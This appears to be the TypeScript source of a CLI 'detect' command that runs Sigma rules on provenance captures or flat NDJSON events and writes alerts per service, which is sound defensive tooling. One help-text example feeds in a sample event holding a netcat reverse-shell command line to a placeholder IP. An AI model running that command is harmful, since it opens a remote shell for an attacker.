// `clarion-enrich detect`: Sigma rules on the events captures show, alerts per service (the capture
// run is preprocess's, without tables: capture-run.ts). `--events FILE.ndjson` instead runs every
// rule, whatever its logsource, on flat events (one JSON object of Sigma field → value a line), as
// Sigma test harnesses do.
import type { Command } from 'commander';
import { type DetectionResult, detectInFlatEvents } from '../detection/detect.js';
import { readFlatEvents } from '../detection/flat-events.js';
import { UsageError } from '../errors.js';
import { ALERT_FILES, type AlertFilesWritten, writeAlertFiles } from '../output/alerts.js';
import { addCaptureRunOptions, runCaptureCommand } from './capture-run.js';
import { warnLine } from './common.js';
import { type FailOnOutcome, formatDetection } from '../output/detection-summary.js';
import { applyFailOn, loadRuleSet, parseFailOn } from './detection-common.js';
import type { PreprocessFlags } from './preprocess-settings.js';

interface DetectOptions extends PreprocessFlags {
  events?: string;
}

export function registerDetect(program: Command): void {
  const cmd = program
    .command('detect')
    .summary('run Sigma rules on captures (or flat events) and write alerts per service')
    .description(
      'Evaluate Sigma rules (SigmaHQ format, specification 2.x detection semantics) on the events the\n' +
        'captures show (process_creation, file_event, network_connection, as Sysmon for Linux names\n' +
        'their fields), each attributed to its service, and write in -o DIR:\n' +
        `  ${ALERT_FILES.alerts.padEnd(26)} one row per (rule, event): rule, level, service, process, what matched\n` +
        `  ${ALERT_FILES.svcToRules.padEnd(26)} one row per service: rule files and pids as Python lists (CORAL)\n` +
        `  ${ALERT_FILES.lateral.padEnd(26)} with --baseline-flows: service flows not in the baseline\n` +
        '  summary.json               rules loaded/applied/skipped, alerts per level, service and rule\n' +
        'Captures, cluster, filters and the config file work as in `preprocess` (no tables are written).\n' +
        'add-services and preprocess take --rules too, and write these files beside their tables.\n\n' +
        '--events FILE.ndjson instead evaluates flat events, one JSON object of Sigma field -> value a\n' +
        'line (- for stdin), with every rule whatever its logsource; the `event` column is the line\n' +
        'number. For rule authors (see --write-events), and for testing rules without a capture.',
    );
  addCaptureRunOptions(cmd)
    .option('--report', 'also write report.html in the output directory: the alerts and attribution on one page (see `clarion-enrich report`)')
    .option('--events <file>', 'NDJSON file of flat Sigma events (- for stdin), instead of captures');
  cmd.addHelpText(
    'after',
    `
Exit codes: 0 ok (alerts or not), 1 internal, 2 usage, 3 unreadable input or invalid rule, 4 Kubernetes API,
5 an alert at or above --fail-on.

Examples:
  $ clarion-enrich detect prov.json --services svc.json --rules sigma/rules/linux -o alerts/
  $ clarion-enrich detect 'captures/*.json.gz' --services svc.json --rules rules/ --baseline-flows good/provenance_data_service_flows.csv --fail-on high
  $ clarion-enrich detect prov.json --services svc.json --rules rules/ --write-events -o out/   # then: detect --events out/sigma_events.ndjson
  $ echo '{"Image":"/usr/bin/nc","CommandLine":"nc -e /bin/sh 203.0.113.5 4444"}' |
      clarion-enrich detect --events - --rules rules/linux/process_creation -o out/ --fail-on high`,
  );
  cmd.action(async (captures: string[], opts: DetectOptions) => {
    if (opts.events === undefined) return runCaptureCommand('detect', cmd, captures, opts);
    if (captures.length > 0) throw new UsageError('give either captures or --events, not both');
    if (opts.writeEvents || opts.baselineFlows !== undefined) throw new UsageError(`${opts.writeEvents ? '--write-events' : '--baseline-flows'} needs captures (flat events have no flows, and are events already)`);
    await runOnEvents(opts.events, opts);
  });
}

async function runOnEvents(eventsPath: string, opts: DetectOptions): Promise<void> {
  const startedAt = performance.now();
  const failOn = parseFailOn(opts.failOn);
  const warnings: string[] = [];
  const warn = (m: string) => {
    warnings.push(m);
    warnLine(m);
  };
  const ruleSet = await loadRuleSet(opts, 'events', warn);
  const result = await detectInFlatEvents(ruleSet, readFlatEvents(eventsPath));
  const files = await writeAlertFiles(opts.output ?? '.', result);
  const outcome = applyFailOn(result, failOn);
  report('detect', { path: eventsPath, result, files, failOn: outcome, warnings, startedAt }, opts.json === true);
}

interface Report {
  path: string;
  result: DetectionResult;
  files: AlertFilesWritten;
  failOn: FailOnOutcome | null;
  warnings: string[];
  startedAt: number;
}

function report(command: string, r: Report, json: boolean): void {
  const elapsedSeconds = Math.round(performance.now() - r.startedAt) / 1000;
  if (json) {
    const summary = { command, ok: true, inputs: [{ path: r.path, events: r.result.summary.events.total }], ...r.result.summary, files: r.files, failOn: r.failOn, warnings: r.warnings, elapsedSeconds };
    process.stdout.write(`${JSON.stringify(summary, null, 2)}\n`);
    return;
  }
  const lines = [`clarion-enrich ${command} --events ${r.path}`, ...formatDetection(r.result.summary, r.files, r.failOn), `  ${elapsedSeconds.toFixed(2)} s`];
  process.stderr.write(`${lines.join('\n')}\n`);
}
